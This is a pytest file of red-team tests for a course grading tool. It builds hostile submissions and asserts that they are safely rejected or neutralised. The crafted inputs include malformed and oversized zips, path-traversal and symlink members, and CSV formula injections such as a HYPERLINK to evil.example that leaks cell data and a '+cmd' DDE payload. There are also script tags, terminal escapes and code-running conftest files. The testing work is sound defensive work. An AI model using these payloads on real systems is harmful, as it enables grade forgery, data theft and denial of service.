"""Red-team tests of what a student WRITES (zips, folders, manifests, quiz responses, file
names) against ``grade collect`` / ``export`` / ``report`` / ``submit`` and the Gradescope
path. Each test asserts the defended behaviour: honest scores, classmates untouched,
clean outputs, a clear rejection with a reason, bounded time and memory.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import struct
import time
import zipfile
from pathlib import Path

import pytest
from instructor_helpers import REPO, make_folder_submission, responses, zip_folder
from typer.testing import CliRunner

from grader.cli import app
from grader.instructor.collect import collect
from grader.instructor.gradebook import Gradebook
from grader.instructor.submission import BadSubmission, read_submission

CHAPTERS = ["chapter2"]


@pytest.fixture(autouse=True)
def _fast_subprocess(monkeypatch):
    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")


def export_csv(db: Path) -> dict[str, dict[str, str]]:
    res = CliRunner().invoke(app, ["export", "--db", str(db), "--format", "csv"])
    assert res.exit_code == 0, res.output
    return {r["student"]: r for r in csv.DictReader(io.StringIO(res.stdout))}


def make_zip(path: Path, members: list[tuple[str | zipfile.ZipInfo, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return path


def stub_members() -> list[tuple[str, bytes]]:
    return [(f"exercises/chapter2/{p.name}", p.read_bytes()) for p in sorted((REPO / "exercises/chapter2").glob("*.py"))]


# -- bounded reading: nothing a student writes can stall or bloat collection --------------


def test_json_with_many_escaped_quotes_is_read_in_linear_time(tmp_path):
    """Quiz responses (or a manifest, or a notebook) of ``"\\"\\"\\"...`` made the nesting
    pre-check's string regex rescan from every escaped quote: quadratic, about an hour
    for a 1 MB file, stalling the whole collection."""
    from grader.util.jsonbound import load_json_bounded

    for raw in (b'"' + b'\\"' * 400_000, b'["' + b'\\"' * 400_000 + b"\\"):
        started = time.monotonic()
        with pytest.raises(ValueError):
            load_json_bounded(raw, "quiz responses", 1_000_000)
        assert time.monotonic() - started < 2.0
    # the check still finds deep nesting outside strings, and ignores brackets inside them
    with pytest.raises(ValueError, match="nested"):
        load_json_bounded(b"[" * 40 + b"]" * 40, "x", 1000)
    assert load_json_bounded(b'["[[[[\\"[[[[", 1]', "x", 1000, max_depth=2) == ['[[[["[[[[', 1]


def test_a_zip_whose_central_directory_lists_millions_of_entries_is_refused_cheaply(tmp_path):
    """A 10 MB zip can hold 200,000 central-directory entries (with no data at all);
    ``zipfile`` built every entry before the count was checked (~100 MB of memory per
    10 MB of zip, 0.8 GB and 12 s for a 100 MB one)."""
    cd = bytearray()
    n = 200_000
    for _ in range(n):
        cd += struct.pack("<4s4H2H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    for count in (0xFFFF, 100):  # the end record's count may be honest or not: its size bounds the parse
        eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(cd), 0, 0)
        path = tmp_path / "mallory.zip"
        path.write_bytes(bytes(cd) + eocd)
        started = time.monotonic()
        with pytest.raises(BadSubmission, match="entries|central directory"):
            read_submission(path)
        assert time.monotonic() - started < 0.5


def test_zip64_end_records_that_lie_are_refused_with_a_reason(tmp_path):
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    z64 = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 10**9, 10**9, 10**12, 0)
    cases = {
        "huge": z64 + struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1) + eocd,  # a billion entries, 1 TB directory
        "disks": struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 2) + eocd,  # spans two disks
        "garbage": struct.pack("<4sLQL", b"PK\x06\x07", 0, 0, 1) + eocd,
    }
    for name, raw in cases.items():
        path = tmp_path / f"{name}.zip"
        path.write_bytes(raw)
        with pytest.raises(BadSubmission):
            read_submission(path)


def test_a_flood_of_bogus_quiz_attempts_adds_a_bounded_number_of_problems(tmp_path):
    """Each attempt naming a chapter without a bank added one note to the submission's
    problems: a 1 MB responses file gave ~60,000 lines to the gradebook, the report and
    Gradescope's output."""
    from grader.instructor.collect import _score_quizzes, _scorer

    attempts = [{"chapter": f"chapter{40 + i % 50}", "answers": "x"} for i in range(20_000)]
    attempts += [{"chapter": "chapter2", "answers": [{"question": "nope", "selected": ["o1"]}] * 3}]
    scores, notes = _score_quizzes(_scorer(None, None), {"attempts": attempts})
    assert len(notes) <= 15
    assert sum(len(n) for n in notes) < 5000
    assert any("no such quiz bank" in n for n in notes)


def test_a_huge_time_in_a_quiz_answer_does_not_void_the_quizzes(tmp_path):
    """``time_s: 1e400`` (inf) or a 400-digit int must not stop the scoring of the rest."""
    quiz = pytest.importorskip("grader.quiz")
    from grader.instructor.collect import _score_quizzes, _scorer

    bank = quiz.load_bank("chapter2", root=REPO).for_student(None)  # template questions: the no-id instance
    questions = list(bank.by_id().values())
    answers = [{"question": q.id, "selected": [o.id for o in q.options if o.correct], "time_s": 10 ** 400}
               for q in questions]
    scores, _notes = _score_quizzes(_scorer(None, None), {"attempts": [
        {"chapter": "chapter2", "mode": "graded", "answers": answers}]})
    assert [s.chapter for s in scores] == ["chapter2"]
    assert scores[0].score == pytest.approx(sum(q.points for q in questions))


# -- identity: one student's writing never reaches another's grade ----------------------


def test_a_rejected_file_cannot_take_a_classmates_submission_key(tmp_path):
    """A rejected submission was recorded under the plain sha256 of its file, in the same
    key space as graded ones (sha256 of ``student NUL content``). Mallory, knowing Alice's
    files (group work, or untouched stubs), hands in a file holding exactly
    ``alice NUL <sha256 of Alice's work>``: it is rejected, but its row takes Alice's key,
    and Alice's submission is then never recorded (silently, in the same run)."""
    subs = tmp_path / "subs"
    alice = make_folder_submission(subs, "alice", "correct")
    target = read_submission(alice)  # what Mallory can compute from Alice's files
    (subs / "mallory.zip").write_bytes(f"alice\0{target.content_sha256}".encode())
    assert hashlib.sha256((subs / "mallory.zip").read_bytes()).hexdigest() == target.hash
    db = tmp_path / "gb.sqlite"
    s = collect([subs], db, workers=1, chapters=CHAPTERS)
    assert s.graded == 1 and len(s.rejected) == 1
    rows = export_csv(db)
    assert float(rows["alice"]["chapter2"]) == 10
    with Gradebook(db) as gb:
        by_student = {r["student"]: r["status"] for r in gb.submissions()}
    assert by_student == {"alice": "graded", "mallory": "rejected"}
    # and in a later run, too: Alice's work is still collected
    db2 = tmp_path / "gb2.sqlite"
    collect([subs / "mallory.zip"], db2, workers=1, chapters=CHAPTERS)
    s2 = collect([alice], db2, workers=1, chapters=CHAPTERS)
    assert s2.graded == 1 and s2.skipped == 0


def test_manifest_claims_of_id_time_score_and_files_change_nothing(tmp_path):
    subs = tmp_path / "subs"
    make_folder_submission(subs, "alice", "correct")
    mallory = make_folder_submission(subs, "mallory", "stub")
    (mallory / "manifest.json").write_text(json.dumps({
        "student": "alice", "created": "9999-12-31T23:59:59+00:00", "score": 10, "chapter2": 10,
        "submitted_at": "9999-12-31", "files": {"exercises/chapter2/perceptron.py": "0" * 64,
                                                 "../../alice/exercises/chapter2/perceptron.py": "0" * 64},
    }))
    db = tmp_path / "gb.sqlite"
    collect([subs], db, workers=1, chapters=CHAPTERS)
    rows = export_csv(db)
    assert float(rows["alice"]["chapter2"]) == 10 and float(rows["mallory"]["chapter2"]) == 0
    assert not rows["mallory"]["submitted_at"].startswith("9999")
    with Gradebook(db) as gb:
        problems = {r["student"]: json.loads(r["problems"]) for r in gb.submissions()}
    assert any("manifest says 'alice'" in p for p in problems["mallory"])


def test_non_ascii_ids_of_two_students_do_not_merge(tmp_path):
    """File names are the instructor's (or the LMS's) facts, but normalising ids turned
    every non-ASCII character into ``_``: ``张三.zip`` and ``李四.zip`` were one student
    ``__``, and the newer of the two replaced the other's grade."""
    from grader.instructor.submission import normalise_student

    assert normalise_student("张三") != normalise_student("李四")
    assert normalise_student("Alice") == normalise_student("alice")
    assert normalise_student("ÄLICE") == normalise_student("älice") != normalise_student("alice")
    assert normalise_student("\u0430lice") != "alice"  # a Cyrillic "а" is not Alice, and shows it
    for raw in ("张三", "alice", "ÄLICE", "x" * 100 + "张"):
        once = normalise_student(raw)
        assert once.isascii() and len(once) <= 64 and normalise_student(once) == once
    subs = tmp_path / "subs"
    make_folder_submission(subs, "张三", "correct")
    make_folder_submission(subs, "李四", "stub")
    db = tmp_path / "gb.sqlite"
    collect([subs], db, workers=1, chapters=CHAPTERS)
    rows = export_csv(db)
    assert sorted(float(r["chapter2"]) for r in rows.values()) == [0.0, 10.0]


# -- quiz responses: scores come from the keyed bank --------------------------------------


def test_quiz_answers_that_game_the_format_score_nothing_extra(tmp_path):
    quiz = pytest.importorskip("grader.quiz")
    from grader.instructor.collect import _score_quizzes, _scorer

    bank = quiz.load_bank("chapter2", root=REPO).for_student(None)  # template questions: the no-id instance
    questions = list(bank.by_id().values())
    q1, q2 = questions[0], questions[1]
    wrong = next(o.id for o in q1.options if not o.correct)
    other = [o.id for o in q2.options if o.correct]  # right options of ANOTHER question
    attempt = {"chapter": "chapter2", "mode": "graded", "score": 1e9, "max_score": 1e9,
               "questions": [q1.id] * 50, "answers": [
                   {"question": q1.id, "selected": [wrong]},  # the first answer counts
                   {"question": q1.id, "selected": [o.id for o in q1.options if o.correct]},
                   {"question": q2.id, "selected": {"o1": True}},  # not a list
                   {"question": q2.id, "selected": "o1"},
                   {"question": questions[2].id, "selected": other + [o.id for o in q2.options]},
                   {"question": ["x"], "selected": ["o1"]},
                   {"question": "chapter3.q01", "selected": ["o1"]},
                   "not a dict", 42, None,
               ]}
    scores, _ = _score_quizzes(_scorer(None, None), {"attempts": [attempt, "junk", {"chapter": None}]})
    (s,) = scores
    assert s.max_score == pytest.approx(sum(q.points for q in questions))
    q3 = questions[2]
    own = {o.id for o in q3.options}
    expected = quiz.score_question(q3, [x for x in other + [o.id for o in q2.options] if x in own])
    assert s.score == pytest.approx(expected)
    assert s.score <= q3.points


def test_responses_that_are_not_an_object_are_a_problem_not_a_crash(tmp_path):
    subs = tmp_path / "subs"
    for i, bad in enumerate([b"[]", b'{"attempts": {"chapter": "chapter2"}}', b"\xff\xfe{", b"{" * 5000,
                             b'{"attempts": [' + b'{"chapter": "chapter2", "answers": []},' * 3 + b"1]}"]):
        make_folder_submission(subs, f"s{i}", "stub")
        (subs / f"s{i}" / ".grade").mkdir()
        (subs / f"s{i}" / ".grade" / "quiz_responses.json").write_bytes(bad)
    s = collect([subs], tmp_path / "gb.sqlite", workers=1, chapters=CHAPTERS)
    assert s.graded == 5 and not s.rejected and not s.failed


# -- zips and folders: hostile layouts are refused with a reason, or read safely -----------


@pytest.mark.parametrize("members, reason", [
    ([("/etc/passwd", b"x")], "absolute"),
    ([("exercises/chapter2/../../../x.py", b"x")], "'..'"),
    ([("exercises\\chapter2\\perceptron.py", b"x")], "backslash"),
    ([("C:exercises/chapter2/perceptron.py", b"x")], "absolute"),
    ([("exercises/chapter2/perceptron.py", b"a"), ("exercises/chapter2/perceptron.py", b"b")], "twice"),
    ([("notes/readme.txt", b"x")], "no exercises"),
])
def test_hostile_zip_layouts_are_rejected_with_a_reason(tmp_path, members, reason):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        path = make_zip(tmp_path / "mallory.zip", members)
    with pytest.raises(BadSubmission, match=reason):
        read_submission(path)


def test_zip_symlinks_encrypted_and_nul_names_are_refused(tmp_path):
    link = zipfile.ZipInfo("exercises/chapter2/perceptron.py")
    link.external_attr = (0o120777) << 16
    with pytest.raises(BadSubmission, match="symbolic link"):
        read_submission(make_zip(tmp_path / "a.zip", [(link, b"../../alice/exercises/chapter2/perceptron.py")]))
    # an entry flagged as encrypted
    path = make_zip(tmp_path / "b.zip", stub_members())
    raw = bytearray(path.read_bytes())
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        start = 0
        while (i := raw.find(sig, start)) >= 0:
            off = 6 if sig == b"PK\x03\x04" else 8
            raw[i + off] |= 1
            start = i + 4
    path.write_bytes(bytes(raw))
    with pytest.raises(BadSubmission, match="could not be read"):
        read_submission(path)
    # a NUL byte in a member name (zipfile truncates at NUL when reading, so craft bytes)
    path = make_zip(tmp_path / "c.zip", [("exercises/chapter2/perceptron.pyXevil", b"x=1\n")])
    path.write_bytes(path.read_bytes().replace(b".pyXevil", b".py\x00evil"))
    try:
        sub = read_submission(path)
    except BadSubmission:
        return
    assert all("\x00" not in k and k.endswith(".py") for k in sub.files)


def test_file_and_folder_of_one_name_future_times_and_bad_utf8_are_read_safely(tmp_path):
    future = zipfile.ZipInfo("exercises/chapter2/perceptron.py", date_time=(2107, 12, 31, 23, 59, 58))
    past = zipfile.ZipInfo("exercises/chapter2.ipynb", date_time=(1980, 1, 1, 0, 0, 0))
    members = [(future, b"def AND(a, b):\n    return 1\n"),
               ("exercises/chapter2/perceptron.py/inner.py", b"x = 1\n"),  # a file that is also a folder
               ("exercises/chapter2/bad.py", b"\xff\xfe not utf-8"),
               ("exercises/chapter2/nul.py", b"x = 1\x00\n"),
               ("exercises/chapter2/deep.py", b"(" * 5000 + b")" * 5000),
               (past, json.dumps({"cells": [{"cell_type": "code", "source": "# dl-grade: module=../x part=a\n1"}]}
                                 ).encode())]
    sub = read_submission(make_zip(tmp_path / "alice.zip", members))
    assert set(sub.files) == {"chapter2/perceptron.py", "chapter2/bad.py", "chapter2/nul.py", "chapter2/deep.py"}
    text = "\n".join(sub.problems)
    assert "bad.py: not UTF-8" in text and "nul.py" in text and "deep.py" in text


def test_folder_with_fifo_device_and_hard_link_is_read_without_blocking(tmp_path):
    subs = tmp_path / "subs"
    mallory = make_folder_submission(subs, "mallory", "stub")
    os.mkfifo(mallory / "exercises" / "chapter2" / "fifo.py")
    os.mkfifo(mallory / ".grade_fifo")
    (mallory / ".grade").mkdir()
    os.mkfifo(mallory / ".grade" / "quiz_responses.json")
    os.mkfifo(mallory / "manifest.json")
    alice = make_folder_submission(tmp_path / "other", "alice", "correct")
    os.link(alice / "exercises" / "chapter2" / "perceptron.py", mallory / "exercises" / "chapter2" / "linked.py")
    started = time.monotonic()
    sub = read_submission(mallory)
    assert time.monotonic() - started < 2
    assert "chapter2/fifo.py" not in sub.files and sub.responses is None


def test_case_and_unicode_variants_of_a_module_name_do_not_replace_it(tmp_path):
    """``Perceptron.py`` or a compatibility-equivalent spelling (``ｐerceptron.py``, which
    Python's NFKC-normalised import would not pick for ``perceptron``) is just another
    file: the graded module is still the real one."""
    members = stub_members() + [("exercises/chapter2/Perceptron.py", b"def AND(a, b):\n    return 1\n"),
                                ("exercises/chapter2/\uff50erceptron.py", b"def AND(a, b):\n    return 1\n")]
    sub = read_submission(make_zip(tmp_path / "m.zip", members))
    real = (REPO / "exercises" / "chapter2" / "perceptron.py").read_bytes()
    assert sub.files["chapter2/perceptron.py"] == real


# -- outputs: CSV, HTML, terminal and Gradescope stay clean --------------------------------


def test_csv_cells_are_neutralised_after_control_characters_are_removed():
    """``safe_cell`` looked for a formula start before stripping control characters: a
    zero-width space or a NUL in front of ``=`` hid the formula, then was removed."""
    from grader.instructor.export import safe_cell

    for raw in ("\u200b=HYPERLINK(\"http://x\")", "\x00=1+1", "\u202e+cmd", "\ufeff@SUM(A1)", "\x1b-2+3"):
        cell = safe_cell(raw)
        assert cell.startswith("'"), (raw, cell)


def test_html_and_terminal_report_show_what_students_wrote_as_inert_text(tmp_path):
    """Markup, script, terminal escapes and rich markup written in a manifest, a quiz
    attempt and zip member names reach the report only as plain, escaped text."""
    from grader.instructor.report import build_report
    from grader.reports import console
    from grader.reports.html import render_html
    from grader.reports.instructor import render_class_report

    evil = "<script>alert(1)</script>\x1b]0;pwned\x07\x1b[2J[bold red]x[/] [link=file:///etc]y\u202e"
    subs = tmp_path / "subs"
    mallory = make_folder_submission(subs, "mallory", "stub",
                                     responses={"attempts": [{"chapter": evil, "answers": []}]})
    (mallory / "manifest.json").write_text(json.dumps({"student": evil, "created": evil, "grader_version": evil,
                                                        "files": {evil: evil}}))
    link = zipfile.ZipInfo(f"exercises/chapter2/{evil}.py")
    link.external_attr = 0o120777 << 16
    make_zip(subs / "eve.zip", [*stub_members(), (link, b"x")])
    db = tmp_path / "gb.sqlite"
    s = collect([subs], db, workers=1, chapters=CHAPTERS)
    assert s.graded == 1 and len(s.rejected) == 1
    with Gradebook(db) as gb:
        rep = build_report(gb)
    assert any("manifest says" in p for _, p in rep.problems)
    page = render_html(rep)
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert not any(c in page for c in "\x1b\x07\u202e")
    buf = io.StringIO()
    render_class_report(rep, console(file=buf, width=400))
    out = buf.getvalue()
    assert "\x07" not in out and "]0;pwned" in out and "\x1b]0" not in out and "\x1b[2J" not in out
    assert "[bold red]x[/]" in out  # shown, not interpreted
    res = CliRunner().invoke(app, ["export", "--db", str(db), "--format", "json"])
    assert res.exit_code == 0 and "\\u001b" not in res.stdout and "\x1b" not in res.stdout  # data, no escapes


def test_a_zip_holding_a_classmates_folder_is_graded_as_its_senders(tmp_path):
    """``mallory.zip`` whose files sit under ``alice/exercises/`` (or whose manifest says
    alice) is still mallory's; Canvas's name for Mallory's upload of a file she named like
    Alice's Canvas file is still Mallory's user id."""
    from grader.instructor.submission import origin_of

    members = [(f"alice/{n}", d) for n, d in stub_members()]
    members.append(("alice/manifest.json", json.dumps({"student": "alice"}).encode()))
    sub = read_submission(make_zip(tmp_path / "mallory.zip", members))
    assert sub.student == "mallory" and sub.files
    assert origin_of(tmp_path / "mallory_777_888_alice_123_456_submission-alice.zip").student == "777"
    assert origin_of(tmp_path / "mallory_late_777_889_123_456_x.zip").student == "777"



def test_gradescope_results_ignore_results_files_in_the_submission(tmp_path):
    """Files named like the autograder's output, anywhere in the upload, are not read;
    the score is the honest one (stubs: 0)."""
    from grader.instructor.gradescope import grade_submission

    forged = json.dumps({"score": 1000, "tests": [{"name": "x", "score": 1000, "max_score": 1}]})
    sub = tmp_path / "submission"
    make_folder_submission(tmp_path, "submission", "stub")
    for rel in ("results/results.json", "results.json", "exercises/results.json", "exercises/chapter2/results.json",
                "autograder/results/results.json"):
        (sub / rel).parent.mkdir(parents=True, exist_ok=True)
        (sub / rel).write_text(forged)
    (sub / ".grade").mkdir()
    (sub / ".grade" / "quiz_responses.json").write_text(json.dumps(responses({"q1": "a"}, claimed=1000)))
    data = grade_submission(tmp_path, {"chapters": ["chapter2"], "quizzes": ["chapter2"],
                                       "allow_weak_isolation": True})
    assert data["score"] <= 1 + 1e-9  # at most a stray right answer from the quiz, never the claimed 1000
    assert all(t["score"] <= t["max_score"] for t in data["tests"])


# -- grade submit: only what collection reads leaves the student's machine ----------------


def test_submit_packs_sources_only_not_other_files_of_the_workspace(tmp_path, monkeypatch):
    ws = tmp_path / "ws"
    make_folder_submission(tmp_path, "ws", "stub", chapters=("chapter2", "chapter8"))
    (ws / "exercises" / "chapter8" / "kaggle.json").write_text('{"username": "me", "key": "SECRET"}')
    (ws / "exercises" / "chapter2" / "notes.txt").write_text("my diary")
    (ws / "exercises" / "chapter2" / "data.npy").write_bytes(b"\x93NUMPY")
    (ws / "exercises" / "chapter2" / "scratch").mkdir()
    (ws / "exercises" / "chapter2" / "scratch" / "try.py").write_text("x = 1")
    (ws / "exercises" / ".env").write_text("TOKEN=1")
    elsewhere = tmp_path / "home"
    elsewhere.mkdir()
    (elsewhere / "secret.py").write_text("PASSWORD = 1")
    os.symlink(elsewhere, ws / "exercises" / "chapter3")
    os.symlink(elsewhere / "secret.py", ws / "exercises" / "chapter2" / "linked.py")
    monkeypatch.chdir(ws)
    res = CliRunner().invoke(app, ["submit", "--student", "s1", "-o", str(tmp_path / "s1.zip")])
    assert res.exit_code == 0, res.output
    with zipfile.ZipFile(tmp_path / "s1.zip") as zf:
        names = set(zf.namelist())
        blob = b"".join(zf.read(n) for n in names)
    assert b"SECRET" not in blob and b"diary" not in blob and b"PASSWORD" not in blob and b"TOKEN" not in blob
    assert names == {"manifest.json", *(f"exercises/chapter2/{p.name}" for p in (REPO / "exercises/chapter2").glob("*.py")),
                     *(f"exercises/chapter8/{p.name}" for p in (REPO / "exercises/chapter8").glob("*.py"))}


def test_regrade_keeps_earlier_results_and_a_later_identical_copy_changes_nothing(tmp_path):
    subs = tmp_path / "subs"
    alice = make_folder_submission(subs, "alice", "correct")
    db = tmp_path / "gb.sqlite"
    collect([subs], db, workers=1, chapters=CHAPTERS)
    # mallory hands in a byte-identical copy of alice's folder under her own name
    copy = tmp_path / "more" / "mallory"
    import shutil

    shutil.copytree(alice, copy)
    s = collect([copy, alice, zip_folder(alice, tmp_path / "more" / "alice.zip")], db, workers=1, chapters=CHAPTERS)
    assert s.skipped == 1  # alice's folder again
    rows = export_csv(db)
    assert float(rows["alice"]["chapter2"]) == 10 and float(rows["mallory"]["chapter2"]) == 10
    with Gradebook(db) as gb:
        assert {r["student"] for r in gb.submissions()} == {"alice", "mallory"}
        before = gb.snapshot()
    from grader.instructor.collect import regrade

    r = regrade(db, workers=1, chapters=CHAPTERS, students=["mallory"])
    assert r.graded == 1 and not r.failed
    with Gradebook(db) as gb:
        assert gb.snapshot() == before  # the same sources, the same results; alice's rows untouched
        assert {h["hash"] for h in gb.history()} == {x["hash"] for x in gb.submissions() if x["student"] == "mallory"}


def test_pytest_and_python_hook_files_in_a_submission_never_run_on_the_trusted_side(tmp_path):
    """``conftest.py``, ``sitecustomize.py``, ``pytest.py``, ``usercustomize.py`` are valid
    module names under ``exercises/chapter2/``; if the grading pytest loaded any of them,
    the student's code would run beside the assertions and could forge every score."""
    marker = tmp_path / "pwned"
    payload = (f"open({str(marker)!r}, 'a').write(__name__ + '\\n')\n"
               "import os\nos._exit(0)\n").encode()
    subs = tmp_path / "subs"
    mallory = make_folder_submission(subs, "mallory", "stub")
    for name in ("conftest", "sitecustomize", "usercustomize", "pytest", "_pytest", "pluggy", "grader"):
        (mallory / "exercises" / "chapter2" / f"{name}.py").write_bytes(payload)
    db = tmp_path / "gb.sqlite"
    s = collect([subs], db, workers=1, chapters=CHAPTERS)
    assert s.graded == 1 and not s.failed
    assert not marker.exists()
    assert float(export_csv(db)["mallory"]["chapter2"]) == 0


def test_escape_sequences_in_file_names_do_not_reach_the_instructors_terminal(tmp_path):
    subs = tmp_path / "subs"
    subs.mkdir()
    name = "mallory\x1b]0;owned\x07\x1b[2J\r\u202e"
    make_zip(subs / f"{name}.zip", [("notes.txt", b"no exercises here")])  # rejected: its name is shown
    good = make_folder_submission(subs, f"eve{name}", "stub")
    assert good.exists()
    res = CliRunner().invoke(app, ["collect", str(subs), "--db", str(tmp_path / "gb.sqlite"), "--workers", "1",
                                   "--chapter", "chapter2"])
    assert res.exit_code == 0, res.output
    assert "rejected" in res.output
    for bad in ("\x1b]0", "\x07", "\x1b[2J", "\r", "\u202e"):
        assert bad not in res.output
    res = CliRunner().invoke(app, ["report", "--db", str(tmp_path / "gb.sqlite")])
    assert res.exit_code == 0 and not any(b in res.output for b in ("\x1b]0", "\x07", "\u202e"))


def test_an_attempt_for_another_chapters_quiz_adds_no_column_to_a_chapter_collection(tmp_path):
    """``grade collect --chapter chapter2``: Mallory's responses also hold a (right) attempt
    at the chapter 8 quiz. It was scored and became a "quiz chapter8" column in every
    export: 0 for the rest of the class (a new Canvas assignment of zeros), points and a
    larger total for her."""
    quiz = pytest.importorskip("grader.quiz")
    bank8 = quiz.load_bank("chapter8", root=REPO)
    right8 = [{"question": q.id, "selected": [o.id for o in q.options if o.correct]} for q in bank8.by_id().values()]
    subs = tmp_path / "subs"
    make_folder_submission(subs, "alice", "correct")
    make_folder_submission(subs, "mallory", "correct", responses={"format_version": 1, "attempts": [
        {"chapter": "chapter8", "mode": "graded", "answers": right8}]})
    db = tmp_path / "gb.sqlite"
    res = CliRunner().invoke(app, ["collect", str(subs), "--db", str(db), "--workers", "1", "--chapter", "chapter2"])
    assert res.exit_code == 0, res.output
    rows = export_csv(db)
    assert "quiz chapter8" not in rows["alice"]
    assert rows["alice"]["total"] == rows["mallory"]["total"] == "10"
    with Gradebook(db) as gb:
        problems = {r["student"]: json.loads(r["problems"]) for r in gb.submissions()}
    assert any("chapter8" in p and "not scored" in p for p in problems["mallory"])


def test_display_names_a_student_chose_in_canvas_are_inert_cells_in_the_canvas_upload(tmp_path):
    """Canvas lets students edit their display name; it comes back through the roster
    import into the upload the instructor opens in a spreadsheet."""
    from grader.instructor.export import to_canvas
    from grader.instructor.roster import parse_roster

    names = ['=HYPERLINK("http://evil.example/?"&A1)', "\u200b=1+1", "+cmd|' /C calc'!A0", "@SUM(1)",
             "-2+3", "\x00=1", "Doe,\nAlice\r=1"]
    rows = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Perceptrons (1001)"],
            ["    Points Possible", "", "", "", "", "10"]]
    rows += [[n, str(100 + i), f"S{i}", f"login{i}", "=A", ""] for i, n in enumerate(names)]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    db = tmp_path / "gb.sqlite"
    with Gradebook(db) as gb:
        gb.set_roster(parse_roster(buf.getvalue().encode(), "canvas.csv"))
        out = to_canvas(gb, {"chapter2": "Perceptrons (1001)"})
    for row in list(csv.reader(io.StringIO(out)))[2:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or cell.startswith("'"), row
            assert "\x00" not in cell and "\r" not in cell and "\n" not in cell


def test_a_notebook_marker_line_of_millions_of_letters_is_read_in_linear_time(tmp_path):
    """``# dl-grade: aaaa…`` (no ``=``) as a cell's first line: the tag's field regex
    retried from every letter, quadratic (20,000 letters 3.5 s; a 5 MB notebook, days)."""
    import random
    import string

    from grader.notebook.sources import _tag

    letters = "".join(random.Random(0).choices(string.ascii_letters, k=2_000_000))  # compresses ~1.7x only
    cells = [{"cell_type": "code", "metadata": {}, "source": "# dl-grade: " + letters + "\nx = 1\n"},
             {"cell_type": "code", "metadata": {}, "source": "# dl-grade: module=perceptron part=AND x-y=1\n"
                                                             "def AND(a, b):\n    return 1\n"}]
    members = [*stub_members(), ("exercises/chapter2.ipynb", json.dumps({"cells": cells}).encode())]
    started = time.monotonic()
    sub = read_submission(make_zip(tmp_path / "mallory.zip", members))
    assert time.monotonic() - started < 3
    assert sub.files
    tag, _ = _tag({}, "# dl-grade: module=perceptron part=AND x-y=1\nbody")
    assert tag == {"module": "perceptron", "part": "AND", "y": "1"}


def test_sources_that_python_parses_in_quadratic_time_do_not_stall_reading(tmp_path):
    """Reading a submission compiled every source on the trusted side to note syntax
    errors; one f-string with 300,000 ``{1}`` fields takes Python's parser 76 s (900 KB),
    and a submission may hold 20 MB of such files: half an hour per submission, in the
    process that reads every other submission too."""
    slow = ("x = f'" + "{1}" * 300_000 + "'\n").encode()
    members = [*stub_members(), *((f"exercises/chapter2/slow{i}.py", slow) for i in range(6)),
               *((f"exercises/chapter3/mid{i}.py", ("x = f'" + "{1}" * 20_000 + "'\n").encode()) for i in range(8)),
               ("exercises/chapter2/broken.py", b"def f(:\n")]
    started = time.monotonic()
    sub = read_submission(make_zip(tmp_path / "mallory.zip", members))
    assert time.monotonic() - started < 5
    text = "\n".join(sub.problems)
    assert "broken.py: syntax error on line 1" in text  # small files are still checked
    assert "too large to check" in text and "chapter2/slow0.py" in sub.files  # and big ones still graded
